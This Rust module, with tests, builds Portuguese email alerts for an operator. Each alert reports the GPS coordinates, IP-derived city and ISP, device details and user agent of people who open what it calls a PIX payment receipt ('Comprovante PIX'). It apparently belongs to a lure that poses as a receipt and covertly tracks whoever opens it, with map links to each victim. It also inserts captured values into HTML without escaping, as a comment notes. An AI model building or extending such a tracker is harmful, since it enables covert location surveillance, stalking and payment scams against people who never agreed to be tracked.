//! Builds operator notifications from captures.
//!
//! Both capture kinds share one template set; a section is rendered only when
//! the capture carries data for it. Values are interpolated without escaping,
//! the recipient is the operator's own inbox.

use crate::models::capture::{Capture, CaptureEvent, Coordinates, DeviceInfo};
use crate::models::location::ResolvedLocation;
use crate::models::notification::{Envelope, Notification};
use crate::util::{iso_timestamp, maps_link};
use chrono_tz::Tz;

const COORDINATES_SUBJECT: &str = "📍 Localização Capturada - Comprovante PIX";
const ACCESS_SUBJECT: &str = "🎯 Novo Acesso ao Comprovante PIX";
const NOT_INFORMED: &str = "Não informado";

fn or_not_informed(value: Option<&str>) -> &str {
    value.filter(|v| !v.trim().is_empty()).unwrap_or(NOT_INFORMED)
}

fn size(width: Option<u32>, height: Option<u32>) -> String {
    match (width, height) {
        (Some(w), Some(h)) => format!("{}x{}", w, h),
        _ => NOT_INFORMED.to_string(),
    }
}

fn yes_no(value: bool) -> &'static str {
    if value { "Sim" } else { "Não" }
}

fn cookies(enabled: bool) -> &'static str {
    if enabled { "Habilitados" } else { "Desabilitados" }
}

/// Intermediate view of a capture shared by the HTML and text renderers.
struct Sections<'a> {
    title: &'static str,
    local_time: String,
    timestamp: String,
    ip: &'a str,
    device: Option<&'a DeviceInfo>,
    coordinates: Option<Coordinates>,
    location: Option<&'a ResolvedLocation>,
    user_agent: Option<&'a str>,
}

impl<'a> Sections<'a> {
    fn new(capture: &'a Capture, location: Option<&'a ResolvedLocation>, display_tz: Tz) -> Self {
        let title = match capture.event {
            CaptureEvent::Coordinates(_) => "📍 Nova Localização Capturada!",
            CaptureEvent::Device(_) => "🎯 Comprovante PIX Acessado",
        };

        Self {
            title,
            local_time: capture.received_at.with_timezone(&display_tz).format("%d/%m/%Y, %H:%M:%S").to_string(),
            timestamp: iso_timestamp(&capture.received_at),
            ip: capture.client_ip.as_deref().unwrap_or("Desconhecido"),
            device: capture.device(),
            coordinates: capture.coordinates(),
            location,
            user_agent: capture.user_agent(),
        }
    }

    fn html(&self) -> String {
        let mut html = String::new();

        html.push_str(&format!(
            r#"
<div style="font-family: Arial, sans-serif; max-width: 700px; margin: 0 auto; background: #f8f9fa; padding: 20px;">
    <div style="background: white; padding: 30px; border-radius: 8px; box-shadow: 0 2px 10px rgba(0,0,0,0.1);">
        <h1 style="color: #8A2BE2; text-align: center; margin-bottom: 30px;">{title}</h1>
"#,
            title = self.title
        ));

        html.push_str(&format!(
            r#"
        <div style="background: #fff3cd; padding: 15px; border-radius: 6px; margin-bottom: 20px; border-left: 4px solid #ffc107;">
            <h3 style="color: #856404; margin: 0 0 10px 0;">⏰ Informações do Acesso</h3>
            <p><strong>Data/Hora:</strong> {local_time}</p>
            <p><strong>IP:</strong> {ip}</p>
"#,
            local_time = self.local_time,
            ip = self.ip
        ));
        if let Some(device) = self.device {
            html.push_str(&format!(
                r#"            <p><strong>URL Acessada:</strong> {url}</p>
            <p><strong>Referrer:</strong> {referrer}</p>
"#,
                url = or_not_informed(device.url.as_deref()),
                referrer = device.referrer().unwrap_or("Acesso direto")
            ));
        }
        html.push_str("        </div>\n");

        if let Some(coordinates) = self.coordinates {
            html.push_str(&format!(
                r#"
        <div style="background: #f3e5f5; padding: 15px; border-radius: 6px; margin: 15px 0;">
            <h3 style="color: #8A2BE2; margin: 0 0 10px 0;">📍 Localização do Dispositivo</h3>
            <p><strong>Latitude:</strong> {latitude}</p>
            <p><strong>Longitude:</strong> {longitude}</p>
            <div style="text-align: center; margin: 15px 0;">
                <a href="{link}" style="display: inline-block; padding: 12px 24px; background: #8A2BE2; color: white; text-decoration: none; border-radius: 6px; font-weight: bold;">📍 Ver no Google Maps</a>
            </div>
        </div>
"#,
                latitude = coordinates.latitude,
                longitude = coordinates.longitude,
                link = maps_link(coordinates.latitude, coordinates.longitude)
            ));
        }

        if let Some(location) = self.location {
            html.push_str(&format!(
                r#"
        <div style="background: #e8f5e8; padding: 15px; border-radius: 6px; margin: 15px 0;">
            <h3 style="color: #2e7d32; margin: 0 0 10px 0;">📍 Localização Aproximada (baseada no IP)</h3>
            <p><strong>País:</strong> {country}</p>
            <p><strong>Região:</strong> {region}</p>
            <p><strong>Cidade:</strong> {city}</p>
            <p><strong>ISP:</strong> {isp}</p>
            <p><strong>Coordenadas:</strong> {latitude}, {longitude}</p>
            <div style="text-align: center; margin: 15px 0;">
                <a href="{link}" style="display: inline-block; padding: 10px 20px; background: #2e7d32; color: white; text-decoration: none; border-radius: 4px;">📍 Ver no Google Maps</a>
            </div>
        </div>
"#,
                country = or_not_informed(Some(location.country.as_str())),
                region = or_not_informed(Some(location.region.as_str())),
                city = or_not_informed(Some(location.city.as_str())),
                isp = or_not_informed(Some(location.isp.as_str())),
                latitude = location.latitude,
                longitude = location.longitude,
                link = maps_link(location.latitude, location.longitude)
            ));
        }

        if let Some(device) = self.device {
            html.push_str(&format!(
                r#"
        <div style="background: #d1ecf1; padding: 15px; border-radius: 6px; margin: 15px 0;">
            <h3 style="color: #0c5460; margin: 0 0 10px 0;">💻 Informações do Dispositivo</h3>
            <p><strong>Sistema:</strong> {platform}</p>
            <p><strong>Idioma:</strong> {language}</p>
            <p><strong>Timezone:</strong> {timezone}</p>
            <p><strong>Resolução:</strong> {screen}</p>
            <p><strong>Janela:</strong> {window}</p>
            <p><strong>Online:</strong> {online}</p>
            <p><strong>Cookies:</strong> {cookies}</p>
        </div>
"#,
                platform = or_not_informed(device.platform.as_deref()),
                language = or_not_informed(device.language.as_deref()),
                timezone = or_not_informed(device.timezone.as_deref()),
                screen = size(device.screen_width, device.screen_height),
                window = size(device.window_width, device.window_height),
                online = yes_no(device.on_line),
                cookies = cookies(device.cookie_enabled)
            ));
        }

        if let Some(user_agent) = self.user_agent {
            html.push_str(&format!(
                r#"
        <div style="background: #f8d7da; padding: 15px; border-radius: 6px; margin: 15px 0;">
            <h3 style="color: #721c24; margin: 0 0 10px 0;">🌐 User Agent</h3>
            <p style="font-family: monospace; font-size: 12px; word-break: break-all;">{user_agent}</p>
        </div>
"#
            ));
        }

        html.push_str(&format!(
            r#"
        <hr style="margin: 30px 0; border: none; border-top: 1px solid #eee;">
        <p style="font-size: 12px; color: #666; text-align: center;">
            Este email foi gerado automaticamente pelo sistema de rastreamento do comprovante PIX.<br>
            Timestamp: {timestamp}
        </p>
    </div>
</div>
"#,
            timestamp = self.timestamp
        ));

        html
    }

    fn text(&self) -> String {
        let mut lines = vec![self.title.to_string(), String::new()];

        lines.push("Informações do Acesso".to_string());
        lines.push(format!("- Data/Hora: {}", self.local_time));
        lines.push(format!("- IP: {}", self.ip));
        if let Some(device) = self.device {
            lines.push(format!("- URL Acessada: {}", or_not_informed(device.url.as_deref())));
            lines.push(format!("- Referrer: {}", device.referrer().unwrap_or("Acesso direto")));
        }

        if let Some(coordinates) = self.coordinates {
            lines.push(String::new());
            lines.push("Localização do Dispositivo".to_string());
            lines.push(format!("- Latitude: {}", coordinates.latitude));
            lines.push(format!("- Longitude: {}", coordinates.longitude));
            lines.push(format!("- Mapa: {}", maps_link(coordinates.latitude, coordinates.longitude)));
        }

        if let Some(location) = self.location {
            lines.push(String::new());
            lines.push("Localização Aproximada (baseada no IP)".to_string());
            lines.push(format!("- País: {}", or_not_informed(Some(location.country.as_str()))));
            lines.push(format!("- Região: {}", or_not_informed(Some(location.region.as_str()))));
            lines.push(format!("- Cidade: {}", or_not_informed(Some(location.city.as_str()))));
            lines.push(format!("- ISP: {}", or_not_informed(Some(location.isp.as_str()))));
            lines.push(format!("- Coordenadas: {}, {}", location.latitude, location.longitude));
            lines.push(format!("- Mapa: {}", maps_link(location.latitude, location.longitude)));
        }

        if let Some(device) = self.device {
            lines.push(String::new());
            lines.push("Informações do Dispositivo".to_string());
            lines.push(format!("- Sistema: {}", or_not_informed(device.platform.as_deref())));
            lines.push(format!("- Idioma: {}", or_not_informed(device.language.as_deref())));
            lines.push(format!("- Timezone: {}", or_not_informed(device.timezone.as_deref())));
            lines.push(format!("- Resolução: {}", size(device.screen_width, device.screen_height)));
            lines.push(format!("- Janela: {}", size(device.window_width, device.window_height)));
            lines.push(format!("- Online: {}", yes_no(device.on_line)));
            lines.push(format!("- Cookies: {}", cookies(device.cookie_enabled)));
        }

        if let Some(user_agent) = self.user_agent {
            lines.push(String::new());
            lines.push(format!("User Agent: {}", user_agent));
        }

        lines.push(String::new());
        lines.push(format!("Timestamp: {}", self.timestamp));
        lines.join("\n")
    }
}

/// Compose the notification for one capture.
pub fn assemble(capture: &Capture, location: Option<&ResolvedLocation>, envelope: &Envelope, display_tz: Tz) -> Notification {
    let subject = match capture.event {
        CaptureEvent::Coordinates(_) => COORDINATES_SUBJECT,
        CaptureEvent::Device(_) => ACCESS_SUBJECT,
    };
    let sections = Sections::new(capture, location, display_tz);

    Notification {
        subject: subject.to_string(),
        text_body: Some(sections.text()),
        html_body: sections.html(),
        from: envelope.sender.clone(),
        to: envelope.recipient.clone(),
        timestamp: capture.received_at,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::notification::Sender;
    use chrono::{TimeZone, Utc};
    use proptest::prelude::*;

    fn envelope() -> Envelope {
        Envelope {
            sender: Sender {
                name: "Tracker".to_string(),
                address: "tracker@example.com".to_string(),
            },
            recipient: "ops@example.com".to_string(),
        }
    }

    fn capture(event: CaptureEvent) -> Capture {
        Capture {
            event,
            client_ip: Some("177.10.20.30".to_string()),
            user_agent: None,
            received_at: Utc.with_ymd_and_hms(2026, 3, 10, 15, 30, 0).unwrap(),
        }
    }

    fn location() -> ResolvedLocation {
        ResolvedLocation {
            country: "Brazil".to_string(),
            region: "São Paulo".to_string(),
            city: "Campinas".to_string(),
            latitude: -22.9,
            longitude: -47.06,
            timezone: "America/Sao_Paulo".to_string(),
            isp: "Example Telecom".to_string(),
        }
    }

    fn assert_no_artifacts(body: &str) {
        assert!(!body.contains("null"));
        assert!(!body.contains("undefined"));
        assert!(!body.contains("None"));
    }

    #[test]
    fn test_coordinate_notification() {
        let capture = capture(CaptureEvent::Coordinates(Coordinates {
            latitude: -23.5,
            longitude: -46.6,
        }));
        let notification = assemble(&capture, None, &envelope(), chrono_tz::America::Sao_Paulo);

        assert_eq!(notification.subject, COORDINATES_SUBJECT);
        assert_eq!(notification.to, "ops@example.com");
        assert_eq!(notification.from.address, "tracker@example.com");
        assert!(notification.html_body.contains("<strong>Latitude:</strong> -23.5"));
        assert!(notification.html_body.contains("<strong>Longitude:</strong> -46.6"));
        assert!(notification.html_body.contains("https://www.google.com/maps?q=-23.5,-46.6"));
        assert!(!notification.html_body.contains("Informações do Dispositivo"));
        assert!(!notification.html_body.contains("User Agent"));
        assert_no_artifacts(&notification.html_body);
    }

    #[test]
    fn test_local_time_uses_display_timezone() {
        let capture = capture(CaptureEvent::Coordinates(Coordinates { latitude: 1.0, longitude: 2.0 }));
        let notification = assemble(&capture, None, &envelope(), chrono_tz::America::Sao_Paulo);

        assert!(notification.html_body.contains("10/03/2026, 12:30:00"));
        assert!(notification.html_body.contains("Timestamp: 2026-03-10T15:30:00.000Z"));
    }

    #[test]
    fn test_device_notification_with_location() {
        let device = DeviceInfo {
            user_agent: Some("Mozilla/5.0 (iPhone)".to_string()),
            platform: Some("iPhone".to_string()),
            screen_width: Some(390),
            screen_height: Some(844),
            url: Some("https://example.com/comprovante".to_string()),
            on_line: true,
            ..DeviceInfo::default()
        };
        let location = location();
        let notification = assemble(&capture(CaptureEvent::Device(device)), Some(&location), &envelope(), chrono_tz::UTC);

        assert_eq!(notification.subject, ACCESS_SUBJECT);
        let html = &notification.html_body;
        assert!(html.contains("Localização Aproximada (baseada no IP)"));
        assert!(html.contains("<strong>Cidade:</strong> Campinas"));
        assert!(html.contains("https://www.google.com/maps?q=-22.9,-47.06"));
        assert!(html.contains("<strong>Resolução:</strong> 390x844"));
        assert!(html.contains("<strong>Janela:</strong> Não informado"));
        assert!(html.contains("<strong>Online:</strong> Sim"));
        assert!(html.contains("<strong>Cookies:</strong> Desabilitados"));
        assert!(html.contains("<strong>Referrer:</strong> Acesso direto"));
        assert!(html.contains("Mozilla/5.0 (iPhone)"));

        let text = notification.text_body.unwrap();
        assert!(text.contains("- Cidade: Campinas"));
        assert!(text.contains("- Coordenadas: -22.9, -47.06"));
        assert!(html.contains("<strong>Coordenadas:</strong> -22.9, -47.06"));
        assert!(text.contains("User Agent: Mozilla/5.0 (iPhone)"));
    }

    #[test]
    fn test_device_notification_without_location_omits_section() {
        let notification = assemble(&capture(CaptureEvent::Device(DeviceInfo::default())), None, &envelope(), chrono_tz::UTC);

        assert!(!notification.html_body.contains("Localização Aproximada"));
        assert!(!notification.html_body.contains("Ver no Google Maps"));
        assert!(notification.html_body.contains("Informações do Dispositivo"));
        assert_no_artifacts(&notification.html_body);
        assert_no_artifacts(notification.text_body.as_deref().unwrap());
    }

    #[test]
    fn test_missing_client_ip_is_rendered_as_unknown() {
        let mut capture = capture(CaptureEvent::Device(DeviceInfo::default()));
        capture.client_ip = None;
        let notification = assemble(&capture, None, &envelope(), chrono_tz::UTC);
        assert!(notification.html_body.contains("<strong>IP:</strong> Desconhecido"));
    }

    #[test]
    fn test_header_user_agent_used_for_coordinate_capture() {
        let mut capture = capture(CaptureEvent::Coordinates(Coordinates { latitude: 1.0, longitude: 2.0 }));
        capture.user_agent = Some("curl/8.0".to_string());
        let notification = assemble(&capture, None, &envelope(), chrono_tz::UTC);
        assert!(notification.html_body.contains("curl/8.0"));
    }

    proptest! {
        #[test]
        fn prop_coordinates_always_rendered(latitude in -90.0f64..90.0, longitude in -180.0f64..180.0) {
            let capture = capture(CaptureEvent::Coordinates(Coordinates { latitude, longitude }));
            let notification = assemble(&capture, None, &envelope(), chrono_tz::UTC);
            let html_body = &notification.html_body;
            let expected_latitude = format!("<strong>Latitude:</strong> {}", latitude);
            let expected_longitude = format!("<strong>Longitude:</strong> {}", longitude);
            prop_assert!(html_body.contains(&expected_latitude));
            prop_assert!(html_body.contains(&expected_longitude));
            prop_assert!(!html_body.contains("Localização Aproximada"));
        }

        #[test]
        fn prop_location_section_iff_location(with_location in any::<bool>(), platform in proptest::option::of("[a-zA-Z0-9 ]{0,16}")) {
            let device = DeviceInfo { platform, ..DeviceInfo::default() };
            let location = location();
            let resolved = if with_location { Some(&location) } else { None };
            let notification = assemble(&capture(CaptureEvent::Device(device)), resolved, &envelope(), chrono_tz::UTC);
            prop_assert_eq!(notification.html_body.contains("Localização Aproximada"), with_location);
        }
    }
}
